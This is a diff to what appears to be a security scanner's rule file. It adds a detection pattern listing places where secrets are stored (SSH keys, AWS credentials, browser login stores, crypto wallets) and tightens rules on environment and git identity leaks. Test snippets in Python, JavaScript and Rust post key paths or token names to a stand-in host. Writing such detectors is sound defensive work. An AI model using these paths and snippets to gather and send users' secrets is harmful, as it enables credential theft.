@@ -150,6 +150,14 @@ _MADE = (
     " | ~env & ~encoded | ~host & ~encoded"
 )
 
+# Names of places that hold secrets, as they stand in code that puts paths together.
+_KEPT = (
+    r"/^(?:~\/)?\.ssh(?:\/id_\w+|\/|$)|\bid_(?:rsa|ed25519)$|^(?:~\/)?\.aws(?:\/credentials|\/|$)"
+    r"|\bLogin Data|Local Storage|leveldb$|[Gg]oogle[\/\\ -]+[Cc]hrome|BraveSoftware|wallet\.dat"
+    r"|key4\.db|logins\.json|cookies\.sqlite|\.gnupg|\.config\/gcloud|\.kube\/config|Exodus|\.electrum"
+    r"|\.config\/solana|nkbihfbeogaeaoehlefnkodbefgpgknn/"
+)
+
 RULES = (
     Rule(
         "private-data-sent",
@@ -230,6 +238,44 @@ RULES = (
         },
     ),
     Rule(
+        "secrets-named-and-sent",
+        "exfiltration",
+        MALICE,
+        HIGH,
+        LIKELY,
+        522,
+        "Where secrets are kept stands in a file that sends to an address of its own",
+        "Keys, passwords and sessions of the user can be sent away.",
+        "Do not run it, unless the address is that of the service whose secret it is.",
+        {
+            language: (
+                f"string {_KEPT} @with-uploading @with-address",
+                "string /AWS_SECRET_ACCESS_KEY/ @with-token-named @with-uploading",
+            )
+            for language in ("python", "javascript", "rust")
+        },
+        bad={
+            "python": (
+                "import requests\nfrom pathlib import Path\nPLACES = ('.ssh/id_rsa', '.aws')\n"
+                "def give(found):\n    requests.post('https://a.invalid', files=found)\n",
+            ),
+            "javascript": (
+                "const NAMES = ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN'];\n"
+                "fetch('https://a.invalid', { method: 'POST', body: made });\n",
+            ),
+            "rust": (
+                'fn main() { let places = [".ssh/id_rsa"]; ureq::post("https://a.invalid").call(); }\n',
+            ),
+        },
+        good={
+            "python": (
+                "import requests\nrequests.post('https://a.invalid', json={'a': '.config'})\n",
+            ),
+            "javascript": ("const NAMES = ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN'];\n",),
+            "rust": ('fn main() { let places = [".ssh/id_rsa"]; list(places); }\n',),
+        },
+    ),
+    Rule(
         "requests-tapped",
         "exfiltration",
         MALICE,
@@ -299,9 +345,11 @@ RULES = (
         {
             "python": (
                 *(f"{sends}(*: ~environment)" for sends in _PYTHON_SENDS),
-                "os.environ.items() @with-machine-told @with-fixed-host",
-                "os.environ.copy() @with-machine-told @with-fixed-host",
-                "dict(0: <os.environ>) @with-machine-told @with-fixed-host",
+                "os.environ.items() @with-token-words @with-sending @with-address",
+                "os.environ.keys() @with-token-words @with-sending @with-address",
+                "os.environ.items() @with-machine-told @with-sending @with-address",
+                "os.environ.copy() @with-machine-told @with-sending @with-address",
+                "dict(0: <os.environ>) @with-machine-told @with-sending @with-address",
                 "requests.post(*: <os.environ>)",
                 "requests.post(json: <os.environ>)",
                 "httpx.post(*: <os.environ>)",
@@ -311,12 +359,15 @@ RULES = (
             ),
             "javascript": (
                 *(f"{sends}(*: ~environment)" for sends in _JAVASCRIPT_SENDS),
-                "process.env @with-machine-told @with-fixed-host",
+                "Object.keys(0: <process.env>) @with-token-words @with-sending @with-address",
+                "Object.entries(0: <process.env>) @with-token-words @with-sending @with-address",
+                "process.env @with-machine-told @with-sending @with-address",
                 "axios.post(1: <process.env>)",
                 "got.post(1.json: <process.env>)",
             ),
             "rust": (
                 *(f"{sends}(*: ~environment)" for sends in _RUST_SENDS),
+                "std.env.vars() @with-token-words @with-sending @with-address",
                 ".write_all(recv: ~network; 0: ~environment)",
             ),
         },
@@ -409,8 +460,9 @@ RULES = (
         "Leave it out, or ask the user first.",
         {
             "python": (
-                "getpass.getuser() @with-machine-told @with-fixed-host",
-                "os.getlogin() @with-machine-told @with-fixed-host",
+                r"subprocess.*(0/args: /^git (?:config .*user\.(?:email|name)|remote )/) @with-sending @with-address",
+                "getpass.getuser() @with-machine-told @with-sending @with-address",
+                "os.getlogin() @with-machine-told @with-sending @with-address",
                 "requests.*(data: ~host | ~env & !~param)",
                 "requests.*(json: ~host | ~env & !~param)",
                 "requests.*(params: ~host)",
@@ -448,7 +500,9 @@ RULES = (
                 r"/^https?:..[^\0\/]+[\/?][^\0]*\0/)",
             ),
             "javascript": (
-                "os.userInfo() @with-machine-told @with-fixed-host",
+                r"child_process.*(0: 'git'; 1: /config .*user\.(?:email|name)|remote /) @with-sending @with-address",
+                r"child_process.*(0: /^git (?:config .*user\.(?:email|name)|remote )/) @with-sending @with-address",
+                "os.userInfo() @with-machine-told @with-sending @with-address",
                 "fetch(0: built & ~host)",
                 "fetch(1.body: ~host | ~env)",
                 "node-fetch(1.body: ~host | ~env)",
@@ -484,7 +538,7 @@ RULES = (
                 r"axios.get(0: ~env & /^https?:..[^\0\/]+[\/?][^\0]*\0/)",
             ),
             "rust": (
-                "whoami.username() @with-machine-told @with-fixed-host",
+                "whoami.username() @with-machine-told @with-sending @with-address",
                 "reqwest.get(0: built & ~host)",
                 "reqwest.blocking.get(0: built & ~host | built & ~env)",
                 "ureq.get(0: built & ~host | built & ~env)",
